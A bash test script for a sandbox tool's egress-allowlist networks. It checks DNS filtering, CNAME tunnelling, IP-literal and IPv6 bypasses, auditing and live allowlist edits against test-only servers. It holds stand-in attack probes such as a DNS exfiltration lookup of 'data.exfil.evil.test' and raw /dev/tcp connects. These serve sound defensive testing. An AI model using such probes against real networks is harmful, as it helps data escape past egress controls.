#!/bin/bash
# SPDX-License-Identifier: MIT
# Named networks with an egress allowlist (issue 18): sbx network records,
# selection and refusals, and enforcement against a test "internet" in R:
#   DNS server 10.99.0.53 (dns-tool.py, UDP+TCP) with the zone below,
#   HTTP-ish servers on 10.99.0.2..5 ports 8080/8081 replying "srv=ADDR:PORT".
# Every name, address and server exists only inside the test's namespaces
# (net-lib.sh). Each refusal has its control (the same path allowed works).
. "$(dirname "$0")/net-lib.sh"
net_require
command -v python3 >/dev/null || { echo "1..0 # SKIP python3 is missing (the test DNS server)"; exit 77; }
DNSTOOL=$(cd "$(dirname "$0")" && pwd)/dns-tool.py
DNSCODE=$(cat "$DNSTOOL")   # the client inside sandboxes (which do not see the source tree)
net_setup
export SBX_NETWORK_DIR=$TMP/networks
AUDIT=$TMP/audit.jsonl

ip -n $R addr add 10.99.0.53/32 dev lo
for a in 2 3 4 5; do
        ip -n $R addr add 10.99.0.$a/32 dev lo
        for port in 8080 8081; do
                setsid -f ip netns exec $R socat TCP-LISTEN:$port,bind=10.99.0.$a,fork,reuseaddr \
                        SYSTEM:"echo srv=10.99.0.$a-$port" </dev/null >/dev/null 2>&1
        done
done
cat >"$TMP/zone" <<'ZONE'
allowed.test A 10.99.0.2 300
same.test A 10.99.0.2 300
other.test A 10.99.0.4 300
cdn.test CNAME edge.cdnhost.test 300
edge.cdnhost.test A 10.99.0.3 300
tun.test CNAME evil.test 300
evil.test A 10.99.0.4 300
a.mirror.test A 10.99.0.3 300
mirror.test A 10.99.0.5 300
api.test A 10.99.0.5 300
late.test A 10.99.0.4 300
injected.test EXTRA 10.99.0.5 300
ZONE
chmod 644 "$TMP/zone"
setsid -f ip netns exec $R python3 "$DNSTOOL" serve 10.99.0.53 "$TMP/zone" </dev/null >/dev/null 2>&1
for i in $(seq 50); do ip netns exec $R ss -lun | grep -q 10.99.0.53:53 && break; sleep 0.1; done
before=$(snapshot)

# (-k: a sandbox's pid 1 ignores the SIGTERM sbx forwards; a stuck run must fail, not hang)
X() { timeout -k 5 30 ip netns exec $H "$SBX" "$@"; }
sb() { X run --audit-log "$AUDIT" "$@"; }
FETCH_T='timeout 4 bash -c "exec 3<>/dev/tcp/$0/$1 && timeout 3 cat <&3" "$0" "$1" 2>&1'

# ---- records ----
out=$(X network create web --egress-allow 'allowed.test,cdn.test,tun.test,*.mirror.test' \
        --egress-allow 'api.test:8080' --egress-allow-cidr 10.99.0.1/32 --dns 10.99.0.53 2>&1); rc=$?
is "network create: exit 0" "$rc" 0
is "network create prints the name" "$out" "web"
out=$(X network create web 2>&1); rc=$?
is "a taken name is refused" "$rc" 125
like "... naming it" "$out" "web already exists"
out=$(X network create bad --egress-allow 10.99.0.2 2>&1); rc=$?
is "an IP literal as a host is refused (exit 2)" "$rc" 2
like "... pointing at --egress-allow-cidr" "$out" "egress-allow-cidr 10.99.0.2/32"
out=$(X network create bad --egress-allow 'a*.test' 2>&1); rc=$?
is "a wildcard that is not a whole first label is refused" "$rc" 2
out=$(X network create bad --egress-allow 'x.test:99999' 2>&1); rc=$?
is "a bad port is refused" "$rc" 2
out=$(X network create none 2>&1); rc=$?
is "a mode name is refused as a network name" "$rc" 2
is "refused creates leave no record" "$(ls "$SBX_NETWORK_DIR" | grep -v '^\.' | tr '\n' ' ')" "web.json "
out=$(X network ls --json)
like "network ls --json lists it with its allowlist" "$out" '"egress":"allowlist"'
out=$(X network inspect web)
like "network inspect shows the CIDR entry" "$out" '10.99.0.1/32'
X network create open >/dev/null 2>&1
docker() { timeout 30 ip netns exec $H bash -c 'exec -a docker "$0" "$@"' "$SBX" "$@"; }
out=$(docker network ls 2>&1)
like "docker network ls lists the records (and bridge, none)" "$out" "open .*bridge.*local"
like "... with docker's builtin bridge" "$out" " bridge  *bridge"
out=$(docker network inspect web --format '{{.Name}} {{.Driver}} {{.Internal}}' 2>&1)
is "docker network inspect --format" "$out" "web bridge false"
out=$(docker network create dk --internal 2>&1)
like "docker network create prints the id" "$out" "^[0-9a-f]{64}$"
out=$(docker network inspect dk --format '{{.Internal}}' 2>&1)
is "docker network create --internal" "$out" "true"
out=$(docker network rm dk 2>&1)
is "docker network rm prints the name" "$out" "dk"
out=$(docker network inspect dk 2>&1); rc=$?
is "docker network inspect of a removed network: exit 1" "$rc" 1
like "... 'not found' as docker says it" "$out" "Error response from daemon: network dk not found"
out=$(sb --network nosuch -- true 2>&1); rc=$?
is "an unknown network name is refused (exit 2)" "$rc" 2
like "... naming it and 'sbx network ls'" "$out" "'nosuch' not found.*sbx network ls"

# ---- sbx explain: the allowlist of the network an agent's docker.network names ----
mkdir -p "$TMP/oc"
printf '%s\n' '{ agents: { ownership: "explicit", defaults: { sandbox: { mode: "all", docker: { network: "web" } } },' \
        '  entries: { main: {}, other: { sandbox: { docker: { network: "bridge" } } } } } }' >"$TMP/oc/openclaw.json"
out=$(X explain --config "$TMP/oc/openclaw.json" --agent main 2>/dev/null)
like "explain: names the network's allowlist" "$out" "network web: egress allowlist"
like "explain: lists the allowed names" "$out" "names: +allowed.test, cdn.test, tun.test, \*.mirror.test, api.test:8080"
like "explain: lists the ranges" "$out" "ranges: +10.99.0.1/32"
out=$(X explain --config "$TMP/oc/openclaw.json" --agent main --json 2>/dev/null |
        python3 -c 'import json, sys; r = json.load(sys.stdin)["networkRecord"]; print(r["egress"], *r["egress_allow"])')
is "explain --json: networkRecord with the allowlist" "$out" "allowlist allowed.test cdn.test tun.test *.mirror.test api.test:8080"
out=$(X explain --config "$TMP/oc/openclaw.json" --agent other 2>/dev/null)
unlike "explain: an agent on 'bridge' gets no network record" "$out" "egress"

# ---- a plain named network is the bridge ----
out=$(sb --network open -- bash -c "$FETCH_T" 10.99.0.3 8080)
is "network without allowlist: reaches anything (as bridge)" "$out" "srv=10.99.0.3-8080"

# ---- enforcement ----
if ! nft list tables >/dev/null 2>&1; then
        skip "enforcement: nftables does not work here"
        done_testing
fi
out=$(sb --network web -- bash -c 'cat /etc/resolv.conf; getent hosts allowed.test; '"$FETCH_T" allowed.test 8080)
like "only sbx's resolver is in resolv.conf" "$out" "^nameserver 127.0.0.53$"
like "allowed name resolves" "$out" "^10.99.0.2 *allowed.test"
like "allowed name: connect by name works" "$out" "^srv=10.99.0.2-8080$"
out=$(sb --network web -- bash -c 'getent hosts same.test || echo NXDOMAIN' 2>&1)
is "a second name on the same address is refused (NXDOMAIN)" "$out" "NXDOMAIN"
out=$(sb --network web -- bash -c "$FETCH_T" 10.99.0.2 8080)
is "control: the allowed server's address without a lookup first is refused" "$(echo "$out" | grep -c srv=)" 0
out=$(sb --network web -- bash -c 'getent hosts allowed.test >/dev/null; '"$FETCH_T" 10.99.0.4 8080)
unlike "an IP literal nothing resolved to is refused" "$out" "srv="
like "... at once (admin-prohibited, not a timeout)" "$out" "No route to host|unreachable|refused"
out=$(sb --network web -- bash -c "$FETCH_T" 10.99.0.1 8080)
like "control: the CIDR entry is reachable by address" "$out" "peer="
out=$(sb --network web -- python3 -c "$DNSCODE" query 10.99.0.53 allowed.test 2>&1)
unlike "another DNS server (UDP) is unreachable" "$out" "rcode="
out=$(sb --network web -- python3 -c "$DNSCODE" query --tcp 10.99.0.53 allowed.test 2>&1)
unlike "DNS over TCP to an outside resolver is refused" "$out" "rcode="
out=$(sb --network web -- python3 -c "$DNSCODE" query --tcp 127.0.0.53 allowed.test 2>&1)
like "control: DNS over TCP to sbx's resolver answers" "$out" "allowed.test A 10.99.0.2"
out=$(sb --network web -- python3 -c "$DNSCODE" query 127.0.0.53 allowed.test AAAA 2>&1)
is "AAAA of an allowed name: an empty answer (IPv4 only)" "$out" "rcode=0"
out=$(sb --network web -- bash -c 'cat /proc/net/if_inet6 | grep -v " lo$"; ip -6 route 2>/dev/null | grep -v "^::1\|^fe80\|multicast" ; exec 3<>/dev/tcp/::ffff:10.99.0.4/8080 && echo CONNECTED' 2>&1)
unlike "IPv6: no address but lo, no route, v4-mapped connects refused" "$out" "CONNECTED"
out=$(sb --network web -- bash -c 'getent hosts cdn.test; '"$FETCH_T" cdn.test 8080)
like "CNAME chain of an allowed name: the target address is answered" "$out" "^10.99.0.3 "
like "... and reachable" "$out" "srv=10.99.0.3-8080"
out=$(sb --network web -- python3 -c "$DNSCODE" query 127.0.0.53 tun.test 2>&1)
like "tunnel name: the chain is answered" "$out" "tun.test CNAME evil.test"
unlike "... without records outside the chain (the injected extra)" "$out" "10.99.0.5"
out=$(sb --network web -- bash -c 'getent hosts tun.test >/dev/null; '"$FETCH_T" 10.99.0.5 8080)
unlike "... and the injected address stays unreachable" "$out" "srv="
: >"$TMP/zone.log"
out=$(sb --network web -- bash -c 'getent hosts evil.test || echo NXDOMAIN; getent hosts data.exfil.evil.test || echo NXDOMAIN')
is "a chain target asked directly is refused" "$out" "NXDOMAIN
NXDOMAIN"
is "refused names never reach the upstream server (no exfiltration by query)" "$(cat "$TMP/zone.log")" ""
out=$(sb --network web -- bash -c 'getent hosts a.mirror.test; getent hosts mirror.test || echo NXDOMAIN')
like "wildcard: a name below it resolves" "$out" "^10.99.0.3 *a.mirror.test"
like "wildcard: never the domain itself" "$out" "NXDOMAIN"
# F HOST PORT: the FETCH_T connect as a command line inside a sandbox's script
F() { echo "timeout 4 bash -c 'exec 3<>/dev/tcp/$1/$2 && timeout 3 cat <&3' 2>&1;"; }
out=$(sb --network web -- bash -c "getent hosts api.test >/dev/null; $(F 10.99.0.5 8080) $(F 10.99.0.5 8081)")
like "HOST:PORT: the port is reachable" "$out" "srv=10.99.0.5-8080"
unlike "HOST:PORT: another port of it is not" "$out" "srv=10.99.0.5-8081"

# ---- audit ----
like "audit: refused names are logged with the network" "$(cat "$AUDIT")" '"event":"egress-deny-name".*"network":"web"|"name":"same.test"'
like "audit: the refused name is named" "$(grep egress-deny-name "$AUDIT")" '"name":"same.test"'
like "audit: refused connections are logged with their destination" \
        "$(grep egress-deny-connect "$AUDIT")" '"destination":"10.99.0.4".*"port":8080|"port":8080.*"destination":"10.99.0.4"'

# ---- live allowlist edits ----
sb --network web -- bash -c 'for i in $(seq 60); do timeout 2 getent hosts late.test >/dev/null && break; sleep 0.1; done
        getent hosts late.test; '"$(F late.test 8080)"' exit 0' >"$TMP/live.out" 2>&1 &
lp=$!
sleep 1
pre=$(cat "$TMP/live.out")
t0=$(date +%s%N)
X network update web --egress-allow 'allowed.test,cdn.test,tun.test,*.mirror.test,api.test:8080,late.test' >/dev/null
wait $lp
out=$(cat "$TMP/live.out")
is "live edit: before it, the new name was refused" "$pre" ""
like "live edit: the running sandbox resolves the added name" "$out" "^10.99.0.4 *late.test"
like "live edit: and reaches it" "$out" "srv=10.99.0.4-8080"
setsid -f ip netns exec $H "$SBX" run --network web -- bash -c 'getent hosts allowed.test >/dev/null; echo ready;
        for i in $(seq 40); do timeout 1 bash -c "exec 3<>/dev/tcp/10.99.0.2/8081 && cat <&3" 2>/dev/null | grep -q srv= || { echo refused-after=$i; exit 0; }; sleep 0.1; done; echo never' \
        </dev/null >"$TMP/live2.out" 2>&1
for i in $(seq 50); do grep -q ready "$TMP/live2.out" && break; sleep 0.1; done
X network update web --egress-allow 'cdn.test' >/dev/null
for i in $(seq 60); do grep -q 'refused-after\|never' "$TMP/live2.out" && break; sleep 0.1; done
like "live edit: a removed name's address is refused in the running sandbox within a second" \
        "$(cat "$TMP/live2.out")" "refused-after=([1-9]|10)$"
out=$(sb --network open -- bash -c "$FETCH_T" 10.99.0.4 8080)
is "live edit: other networks' sandboxes are untouched" "$out" "srv=10.99.0.4-8080"

# ---- a persistent sandbox's resolver killed with -9 leaves host state; the next
# plain sandbox on its address clears it ----
export SBX_WORKSPACE_ROOT=$TMP/ws
setsid -f ip netns exec $H "$SBX" run --network bridge -- sleep 8 </dev/null >/dev/null 2>&1  # keeps sbx0 up
sleep 0.5
# the resolver: forked by the sbx that started the sandbox (create starts it),
# named 'sbx-resolver IFNAME' in its cmdline: the one that was not there before
resolvers() { for q in $(ip netns pids $H); do tr '\0' ' ' <"/proc/$q/cmdline" 2>/dev/null | grep -q '^sbx-resolver ' && echo "$q"; done | sort; }
rbefore=$(resolvers)
X create --state-dir "$TMP/ks" --name ks --network web >/dev/null 2>&1 && X start --state-dir "$TMP/ks" ks >/dev/null 2>&1
ksaddr=$(X ls --state-dir "$TMP/ks" --json | python3 -c 'import json, sys; print(json.load(sys.stdin)[0]["ipAddress"])')
knew=$(comm -13 <(echo "$rbefore") <(resolvers))
like "proc-title: the new resolver's cmdline is 'sbx-resolver IFNAME' alone, no argv of the sbx that forked it" \
        "$(for q in $knew; do tr '\0' ' ' <"/proc/$q/cmdline"; cat "/proc/$q/environ" | wc -c; done)" '^sbx-resolver [a-z0-9-]+ 0$'
for q in $knew; do kill -9 "$q"; done
X rm --state-dir "$TMP/ks" -f ks >/dev/null 2>&1
map() { ip netns exec $H nft list map ip sbx egress 2>/dev/null; }
like "kill -9 of a persistent sandbox's resolver leaves its map entry ($ksaddr)" "$(map)" "$ksaddr : jump"
out=$(sb --network bridge -- bash -c 'ip -4 -o addr show dev eth0 | awk "{print \$4}" | cut -d/ -f1; '"$FETCH_T" 10.99.0.4 8080)
addr=$(printf '%s\n' "$out" | head -1)
if [ "$addr" = "$ksaddr" ]; then
        like "the next plain sandbox on that address is not restricted" "$out" "srv=10.99.0.4-8080"
        unlike "... and the stale entry is gone" "$(map)" "$ksaddr : jump"
else
        skip "the next plain sandbox got $addr, not $ksaddr (another sandbox holds it)"
        skip "stale entry check"
fi

# ---- internal ----
X network create closed --internal >/dev/null
out=$(sb --network closed -- bash -c 'getent hosts allowed.test || echo NXDOMAIN; '"$FETCH_T" 10.99.0.1 8080)
like "--internal: no name resolves" "$out" "NXDOMAIN"
unlike "--internal: nothing is reachable" "$out" "peer="

# ---- refusals ----
out=$(sb --network web --dns 10.99.0.53 -- true 2>&1); rc=$?
is "dns for a sandbox on an allowlist network is refused (exit 2)" "$rc" 2
out=$(sb --network web --add-host gw:host-gateway -- true 2>&1); rc=$?
is "host-gateway on an allowlist network is refused (exit 2)" "$rc" 2
# ---- rootless (pasta, uid 65534): the same rules in the sandbox's own namespace ----
if ! command -v pasta >/dev/null; then
        for i in $(seq 13); do skip "rootless: pasta (Debian package passt) is not installed"; done
else
        RL=$TMP/rl; mkdir -p "$RL"; chown 65534 "$RL"
        rl() { in_h_nobody SBX_NETWORK_DIR="$SBX_NETWORK_DIR" XDG_RUNTIME_DIR="$RL" "$SBX" run \
                --audit-log "$RL/audit.jsonl" "$@"; }
        X network update web --egress-allow 'allowed.test,late.test' >/dev/null
        out=$(rl --network open -- bash -c "$(F 10.99.0.4 8080)" 2>&1)
        if printf '%s' "$out" | grep -q 'pasta exited\|tun'; then
                for i in $(seq 13); do skip "rootless: pasta cannot run here: $(printf '%s' "$out" | head -1)"; done
        else
                is "control: rootless on the plain network reaches 10.99.0.4" "$out" "srv=10.99.0.4-8080"
                out=$(rl --network web -- bash -c "getent hosts allowed.test; $(F allowed.test 8080)" 2>&1)
                like "rootless: the allowed name resolves" "$out" "^10.99.0.2 *allowed.test"
                like "rootless: and is reachable by name" "$out" "srv=10.99.0.2-8080"
                out=$(rl --network web -- bash -c 'getent hosts same.test || echo NXDOMAIN' 2>&1)
                is "rootless: another name is NXDOMAIN" "$out" "NXDOMAIN"
                out=$(rl --network web -- bash -c "getent hosts allowed.test >/dev/null; $(F 10.99.0.4 8080)" 2>&1)
                unlike "rootless: an IP literal nothing resolved to is refused" "$out" "srv="
                out=$(rl --network web -- python3 -c "$DNSCODE" query 10.99.0.53 allowed.test 2>&1)
                unlike "rootless: another DNS server is unreachable" "$out" "rcode="
                out=$(rl --network web -- bash -c "$(F 10.99.0.53 53)" 2>&1)
                like "rootless: DNS over TCP to it neither (refused at once)" "$out" "No route to host|not permitted|refused"
                like "rootless: refused names are audited" "$(grep egress-deny-name "$RL/audit.jsonl" 2>&1)" \
                        '"name":"same.test"'
                rl --network web -- bash -c 'for i in $(seq 40); do timeout 2 getent hosts other.test && break; sleep 0.1; done
                        '"$(F other.test 8080)" >"$RL/live.out" 2>&1 &
                rlp=$!
                sleep 1.5
                X network update web --egress-allow 'allowed.test,late.test,other.test' >/dev/null
                wait $rlp
                like "rootless: live edit: a running sandbox resolves the added name" "$(cat "$RL/live.out")" "^10.99.0.4 *other.test"
                like "rootless: live edit: and reaches it" "$(cat "$RL/live.out")" "srv=10.99.0.4-8080"
                out=$(rl --network web -- nft flush ruleset 2>&1)
                like "rootless: the sandbox cannot change the rules in its own namespace" "$out" "Operation not permitted"
                # a persistent rootless sandbox: its resolver outlives `sbx start`
                nb() { in_h_nobody SBX_NETWORK_DIR="$SBX_NETWORK_DIR" XDG_RUNTIME_DIR="$RL" \
                        SBX_WORKSPACE_ROOT="$RL/ws" "$SBX" "$@"; }
                nb create --name rlp --network web >/dev/null 2>&1 && nb start rlp >/dev/null 2>&1
                out=$(nb exec rlp -- bash -c "getent hosts same.test || echo NXDOMAIN; $(F allowed.test 8080)" 2>&1)
                like "rootless persistent: the allowed name is reachable from sbx exec" "$out" "srv=10.99.0.2-8080"
                like "rootless persistent: another name is NXDOMAIN" "$out" "NXDOMAIN"
                nb rm -f rlp >/dev/null 2>&1
                like "rootless: refused connections are audited (nflog inside the sandbox)" \
                        "$(grep egress-deny-connect "$RL/audit.jsonl" 2>&1)" '"destination":"10.99.0.(4|53)"'
        fi
        X network update web --egress-allow 'allowed.test,cdn.test,tun.test,*.mirror.test,api.test:8080,late.test' >/dev/null
fi

# ---- persistent sandbox ----
export XDG_RUNTIME_DIR=$TMP/run SBX_WORKSPACE_ROOT=$TMP/ws; mkdir -p -m 0700 "$XDG_RUNTIME_DIR"
X network update web --egress-allow 'allowed.test' >/dev/null
X create --name egp --network web >/dev/null 2>&1
X start egp >/dev/null 2>&1
out=$(X exec egp -- bash -c "$FETCH_T" allowed.test 8080 2>&1)
like "persistent sandbox: allowed name reachable" "$out" "srv=10.99.0.2-8080"
out=$(X exec egp -- bash -c 'getent hosts other.test || echo NXDOMAIN' 2>&1)
is "persistent sandbox: other names refused" "$out" "NXDOMAIN"
out=$(X network rm web 2>&1); rc=$?
is "network rm refuses a network a sandbox uses" "$rc" 125
like "... naming the sandbox" "$out" "egp"
X rm -f egp >/dev/null 2>&1
out=$(X network rm web closed open 2>&1); rc=$?
is "network rm after the sandbox is gone" "$rc" 0
is "no records left" "$(ls "$SBX_NETWORK_DIR" | grep -v '^\.')" ""
# a resolver exits when its sandbox's namespace is gone: give it up to 5 s on a loaded machine
left() { ip netns pids $H | xargs -r ps -o comm= -p | grep -c '^sbx' || true; }
for i in $(seq 50); do [ "$(left)" = 0 ] && break; sleep 0.1; done
is "no resolver (or other sbx) process is left in the host namespace" "$(left)" "0"
snapshot_is "the host namespace is as before (no veth, no nft table)"
done_testing
